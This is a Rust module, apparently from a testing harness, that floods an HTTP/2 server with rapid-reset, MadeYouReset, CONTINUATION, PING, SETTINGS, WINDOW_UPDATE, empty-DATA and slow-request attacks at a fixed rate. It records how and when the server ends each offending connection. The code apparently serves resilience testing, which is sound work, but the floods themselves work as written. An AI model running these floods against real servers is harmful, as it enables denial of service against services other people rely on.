//! Whoever floods: with frames of HTTP/2 at a fixed rate, on one connection after another.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::{Duration, Instant};

use super::slow;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, admitted, beginning, frame,
};

/// Frames a second, or streams where each has several.
const RATE: u64 = 10_000;

/// How often a batch of them is sent.
const BATCH: Duration = Duration::from_millis(10);

/// What a server can be flooded with.
#[derive(Clone, Copy)]
pub(super) enum Flood {
    SlowHeaders,
    SlowBody,
    SlowRead,
    RapidReset,
    MadeYouReset,
    Continuation,
    EmptyData,
    Ping,
    Settings,
    WindowUpdate,
}

/// What became of an offender.
#[derive(Default)]
pub(super) struct Ended {
    /// Connections that were ended.
    pub(super) count: u64,
    /// What the most persistent of them had sent.
    pub(super) most_frames: u64,
    /// How long it had lasted.
    pub(super) longest: Duration,
}

impl Ended {
    pub(super) fn note(&mut self, frames: u64, lasted: Duration) {
        self.count += 1;
        self.most_frames = self.most_frames.max(frames);
        self.longest = self.longest.max(lasted);
    }

    /// After how much the last of them was ended.
    pub(super) fn after(&self) -> String {
        let seconds = self.longest.as_secs_f64();
        match (self.count, self.most_frames) {
            (0, _) => "-".to_owned(),
            (_, 0) => format!("{seconds:.1} s"),
            (_, frames) => format!("{frames} frames {seconds:.1} s"),
        }
    }
}

impl Flood {
    pub(super) fn all() -> [Self; 10] {
        [
            Self::SlowHeaders,
            Self::SlowBody,
            Self::SlowRead,
            Self::RapidReset,
            Self::MadeYouReset,
            Self::Continuation,
            Self::EmptyData,
            Self::Ping,
            Self::Settings,
            Self::WindowUpdate,
        ]
    }

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::SlowHeaders => "slow headers",
            Self::SlowBody => "slow body",
            Self::SlowRead => "slow read",
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "MadeYouReset",
            Self::Continuation => "CONTINUATION",
            Self::EmptyData => "empty DATA",
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
            Self::WindowUpdate => "WINDOW_UPDATE",
        }
    }

    /// Floods until told to stop.
    pub(super) fn run(self, gate: SocketAddr, stop: &AtomicBool) -> std::io::Result<Ended> {
        match self {
            Self::SlowHeaders => slow::trickle(gate, stop, slow::HEAD),
            Self::SlowBody => slow::trickle(gate, stop, slow::BODY),
            Self::SlowRead => slow::trickle(gate, stop, slow::READ),
            _ => self.send(gate, stop),
        }
    }

    fn send(self, gate: SocketAddr, stop: &AtomicBool) -> std::io::Result<Ended> {
        let mut ended = Ended::default();
        while !stop.load(Relaxed) {
            let mut stream = TcpStream::connect(gate)?;
            stream.set_nodelay(true)?;
            let closed = Arc::new(AtomicBool::new(false));
            drain(stream.try_clone()?, Arc::clone(&closed));
            let began = Instant::now();
            let mut frames = 0;
            let mut sent = stream.write_all(&[beginning(), self.first()].concat());
            let mut due = began;
            while sent.is_ok() && !closed.load(Relaxed) && !stop.load(Relaxed) {
                let count = RATE * BATCH.as_millis() as u64 / 1000;
                let batch: Vec<_> = (frames..frames + count).flat_map(|n| self.next(n)).collect();
                sent = stream.write_all(&batch);
                frames += count;
                due += BATCH;
                std::thread::sleep(due.saturating_duration_since(Instant::now()));
            }
            if closed.load(Relaxed) || sent.is_err() {
                ended.note(frames, began.elapsed());
            }
            let _ = stream.shutdown(std::net::Shutdown::Both);
        }
        Ok(ended)
    }

    /// What the flood begins with.
    fn first(self) -> Vec<u8> {
        match self {
            Self::Continuation => frame(HEADERS, 0, 1, GET),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &admitted(0x83)),
            _ => Vec::new(),
        }
    }

    /// The frame or stream of this number.
    fn next(self, number: u64) -> Vec<u8> {
        let stream = number as u32 * 2 + 1;
        match self {
            Self::RapidReset => [
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &admitted(0x82)),
                frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()),
            ]
            .concat(),
            // A window that grows beyond all bounds is a mistake for which we reset the stream.
            Self::MadeYouReset => [
                frame(HEADERS, END_HEADERS, stream, POST),
                frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
            ]
            .concat(),
            Self::Continuation => frame(CONTINUATION, 0, 1, &[]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            _ => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        }
    }
}

/// Reads whatever comes, so that the gate can write, until the connection ends.
fn drain(mut stream: TcpStream, closed: Arc<AtomicBool>) {
    std::thread::spawn(move || {
        let mut bytes = [0; 16 << 10];
        while stream.read(&mut bytes).is_ok_and(|read| read > 0) {}
        closed.store(true, Relaxed);
    });
}
